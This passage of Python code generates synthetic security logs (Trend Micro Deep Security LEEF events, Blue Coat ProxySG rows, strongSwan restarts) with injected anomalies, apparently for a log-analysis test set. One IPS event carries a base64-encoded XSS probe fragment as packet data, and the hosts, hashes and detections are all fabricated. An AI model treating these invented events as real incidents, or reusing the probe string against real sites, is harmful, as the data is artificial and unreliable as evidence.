        L.append((t, self.pre(t, th, 'DMN') + 'killing ourself, received critical signal'))
        L.append((t + 0.5, '%s %s ipsec_starter[%d]: charon has died -- restart scheduled (5sec)' % (syslog_ts(self.loc(t)), self.host, self.starter)))
        L = [(a + i * 1e-4, b) for i, (a, b) in enumerate(L)]
        return L + self._start(t + 5.5)


class LeefDS(Fmt):
    key, fname, clock, weight = 'leef', 'deepsecurity-leef.log', 'offset', 2.5
    product = 'Trend Micro Deep Security (LEEF to QRadar)'
    warn_per_min, err_per_min = 0.5, 0.5
    desc = {'error_burst': 'Deep Security intrusion prevention resets for one known rule rise many-fold (IPS storm).',
            'new_error': 'Deep Security Anti-Malware starts detecting a ransomware family never seen before.'}

    def setup(self):
        r = self.rng
        self.hosts = ['%s%02d.%s' % (p, i, self.ctx.domain) for p in ('web', 'app', 'db') for i in range(1, r.randint(3, 6))]
        self.hid = {h: r.randint(100, 999) for h in self.hosts}

    def pre(self, t, evid, cat, name, desc, sev, host):
        d = self.loc(t)
        off = d.strftime('%z')
        return '%s %s LEEF:2.0|Trend Micro|Deep Security Agent|20.0.0.8438|%s|cat=%s\tname=%s\tdesc=%s\tsev=%d\tcn1=%d\tcn1Label=Host ID\tdvchost=%s\tTrendMicroDsTenant=Primary\tTrendMicroDsTenantId=0\tdevTimeFormat=MMM dd yyyy HH:mm:ss z\tdevTime=%s %02d %d %s GMT%s:%s' % (
            syslog_ts(d), self.host, evid, cat, name, desc, sev, self.hid[host], host, MON[d.month - 1], d.day, d.year,
            d.strftime('%H:%M:%S'), off[:3], off[3:])

    def normal(self, t, st):
        r, c = self.rng, self.ctx
        h = r.choice(self.hosts)
        x = r.random()
        if st.flood or x < 0.6:
            src = r.choice(c.scan_ips[:5]) if st.flood else r.choice(c.pub_in + c.lan)
            act, nm = ('Deny', 'Out Of Allowed Policy') if st.flood or r.random() < 0.5 else ('Log', 'Remote Access RDP')
            return self.pre(t, '20', 'Firewall', nm, nm, 5, h) + '\tact=%s\tdstMAC=%s\tsrcMAC=%s\tTrendMicroDsFrameType=IP\tsrc=%s\tsrcPort=%d\tdst=%s\tdstPort=%d\tsize=60\tproto=TCP\tTrendMicroDsPacketData=%s' % (
                act, ':'.join(hexid(r, 2) for _ in range(6)).upper(), ':'.join(hexid(r, 2) for _ in range(6)).upper(), src, eph(r),
                r.choice(c.dmz), r.choice([3389, 445, 22, 443]), 'RQAAPAAAQAB' + hexid(r, 10))
        if x < 0.85:
            return self.pre(t, '2002795', 'Log Inspection', '1002795 - Microsoft Windows Events', 'Multiple Windows Logon Events', 3, h) + \
                '\tTrendMicroDsLogInspectionEventCount=%d\tsrc=%s\tusrName=%s\tfname=Security\tmsg=WinEvtLog: Security: AUDIT_SUCCESS(4624): Microsoft-Windows-Security-Auditing' % (
                    r.randint(1, 5), r.choice(c.lan), c.user(r))
        return self.pre(t, '2002779', 'Integrity Monitor', '1002779 - Microsoft Windows - System File Modified', 'System File Modified', 6, h) + \
            '\tact=updated\tfilePath=C:\\Windows\\System32\\drivers\\etc\\hosts\tTrendMicroDsIntegrityChange=contents, lastModified, sha256'

    def warn(self, t):
        r = self.rng
        h = r.choice(self.hosts)
        return self.pre(t, '4000016', 'Web Reputation', 'Web Reputation', 'Untested', 3, h) + '\trequest=http://%s.example-cdn.net/track.js\tmsg=Untested\tTrendMicroDsFrameType=IP' % hexid(r, 8)

    def err(self, t):
        r, c = self.rng, self.ctx
        h = r.choice(self.hosts[:3])
        return self.pre(t, '1000552', 'Intrusion Prevention', '1000552 - Generic Cross Site Scripting(XSS) Prevention',
                        '1000552 - Generic Cross Site Scripting(XSS) Prevention', 10, h) + \
            '\tact=Reset\tsrc=%s\tsrcPort=%d\tdst=%s\tdstPort=443\tproto=TCP\tTrendMicroDsFrameType=IP\tTrendMicroDsPacketData=R0VUIC9zZWFyY2g/cT08c2NyaXB0Pg==' % (
                r.choice(c.pub_in + c.scan_ips), eph(r), r.choice(c.dmz))

    def new_err(self, t):
        r = self.rng
        h = r.choice(self.hosts)
        return self.pre(t, '4000000', 'Anti-Malware', 'Ransom.Win32.LOCKBIT.SMYXCBN', 'Ransom.Win32.LOCKBIT.SMYXCBN', 6, h) + \
            '\tTrendMicroDsTags=FS\tfilePath=C:\\Users\\Public\\%s.exe\tact=Quarantine\tmsg=Realtime\tTrendMicroDsMalwareTarget=N/A\tTrendMicroDsMalwareTargetType=N/A\tTrendMicroDsFileMD5=%s\tTrendMicroDsFileSHA1=%s' % (
                hexid(r, 8), hexid(r, 32).upper(), hexid(r, 40).upper())


class BlueCoat(Fmt):
    key, fname, clock, weight = 'bluecoat', 'proxysg-main.log', 'utc', 4.0
    product = 'Blue Coat ProxySG secure web gateway'
    http = lat = True
    warn_per_min, err_per_min = 0.0, 0.6
    desc = {'error_burst': 'ProxySG policy_denied responses rise many-fold.',
            'new_error': 'ProxySG starts answering icap_communication_error (ICAP scanner unreachable).',
            'latency_shift': 'ProxySG time-taken rises several-fold.',
            'http_5xx': 'ProxySG returns 5xx (TCP_ERR_MISS, dns/tcp errors) in a large share.'}
    FIELDS = ('date time time-taken c-ip cs-username cs-auth-group x-exception-id sc-filter-result cs-categories cs(Referer) '
              'sc-status s-action cs-method rs(Content-Type) cs-uri-scheme cs-host cs-uri-port cs-uri-path cs-uri-query '
              'cs-uri-extension cs(User-Agent) s-ip sc-bytes cs-bytes x-virus-id')
    HOSTS = ['www.google.com', 'outlook.office365.com', 'login.microsoftonline.com', 'api.github.com', 'slack.com',
             'www.linkedin.com', 'teams.microsoft.com', 'cdn.jsdelivr.net', 'update.googleapis.com', 'zoom.us',
             'docs.google.com', 'www.bing.com', 'news.ycombinator.com', 'www.amazon.com', 's3.amazonaws.com']

    def setup(self):
        self.sip = '10.0.0.%d' % self.rng.randint(8, 20)

    def _hdr(self, t):
        d = utc(t).strftime('%Y-%m-%d %H:%M:%S')
        return ['#Software: SGOS 6.7.5.3', '#Version: 1.0', '#Start-Date: ' + d, '#Date: ' + d, '#Fields: ' + self.FIELDS,
                '#Remark: 4209%06d "%s" "%s" "main"' % (self.rng.randint(0, 999999), self.host, self.sip)]

    def header(self, t):
        return self._hdr(t)

    def restart(self, t_stop, t_start):
        return [(t_start + i * 1e-4, x) for i, x in enumerate(self._hdr(t_start))]

    def row(self, t, tt, status, exc, filt, cat, action, method, host, path, ctype):
        r, c = self.rng, self.ctx
        scheme, port = ('tcp', 443) if method == 'CONNECT' else ('https', 443)
        return '%s %d %s %s %s %s %s "%s" - %d %s %s %s %s %s %d %s - %s "%s" %s %d %d -' % (
            utc(t).strftime('%Y-%m-%d %H:%M:%S'), tt, r.choice(c.lan), c.user(r), '"%s\\Staff"' % c.org.upper(), exc, filt, cat,
            status, action, method, ctype, scheme, host, port, path, '-' if '.' not in path[-5:] else path.rsplit('.', 1)[1],
            r.choice(UAS[:6]), self.sip, int(r.expovariate(1 / 12000)), r.randint(300, 2000))

    def normal(self, t, st):
        r = self.rng
        tt = int(r.lognormvariate(4.6, 0.8) * st.lat)
        host = r.choice(self.HOSTS)
        if r.random() < 0.002 + st.p5xx:
            exc = r.choice(['tcp_error', 'dns_server_failure', 'connect_failed'])
            return self.row(t, tt, r.choice([502, 503, 504]), exc, 'OBSERVED', 'Technology/Internet', 'TCP_ERR_MISS', 'GET', host, '/', '-')
        if r.random() < 0.45:
            return self.row(t, tt, 200, '-', 'OBSERVED', 'Technology/Internet', 'TCP_TUNNELED', 'CONNECT', host, '/', '-')
        return self.row(t, tt, r.choice([200, 200, 200, 304, 302, 204]), '-', 'OBSERVED',
                        r.choice(['Technology/Internet', 'Business/Economy', 'Web Ads/Analytics', 'News', 'Search Engines/Portals']),
                        r.choice(['TCP_NC_MISS', 'TCP_HIT', 'TCP_MISS']), 'GET', host,
                        r.choice(['/', '/v1/messages', '/search', '/assets/app.js', '/api/v2/updates']),
                        r.choice(['text/html;%20charset=utf-8', 'application/json', 'application/javascript', 'image/png']))

    def err(self, t):
        r = self.rng
        return self.row(t, r.randint(1, 20), 403, 'policy_denied', 'DENIED', r.choice(['Gambling', 'Piracy/Copyright Concerns', 'Proxy Avoidance']),
                        'TCP_DENIED', 'GET', r.choice(['www.bet365.com', 'thepiratebay.org', 'hidemy.name']), '/', 'text/html')

    def new_err(self, t):
        r = self.rng
        return self.row(t, r.randint(2000, 9000), 503, 'icap_communication_error', 'DENIED', 'Technology/Internet', 'TCP_ERR_MISS',
                        'GET', r.choice(self.HOSTS), '/download/setup.exe', '-')
